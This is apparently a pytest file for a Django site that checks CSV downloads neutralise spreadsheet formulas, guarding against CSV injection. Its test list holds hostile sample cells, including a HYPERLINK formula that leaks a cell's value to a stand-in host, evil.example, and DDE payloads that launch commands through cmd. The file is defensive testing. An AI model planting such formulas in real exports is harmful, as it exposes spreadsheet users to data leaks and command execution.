"""CSV downloads never hand a spreadsheet a formula: cells that start like one are kept as text.

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and some,
a tab or carriage return) as a formula, which can fetch URLs or run commands (CSV
injection). Numbers, negative ones included, stay numbers.
"""

import csv
import io
from decimal import Decimal

import pytest

from iomsite.spreadsheets import spreadsheet_cell
from tests.regions.helpers import make_figure, make_region

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_becomes_text(value):
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Migrants", "", "12", "-12", "-12.5", "+3", "1e5", Decimal("-4.2"), -7, 2015, None])
def test_plain_text_and_numbers_are_unchanged(value):
    expected = "" if value is None else str(value) if not isinstance(value, str) else value
    assert spreadsheet_cell(value) == expected


def test_the_figures_download_neutralises_formulas(client):
    americas = make_region("americas")
    for index, formula in enumerate(FORMULAS[:4]):
        make_figure(americas, label=formula, source=formula, value=str(-index - 1), year=2015 + index)
    response = client.get("/en/regions/americas/figures.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 4
    for row in rows:
        assert row["label"].startswith("'") and row["source"].startswith("'"), row
        assert row["value"].startswith("-") and float(row["value"]) < 0  # a negative number is still a number
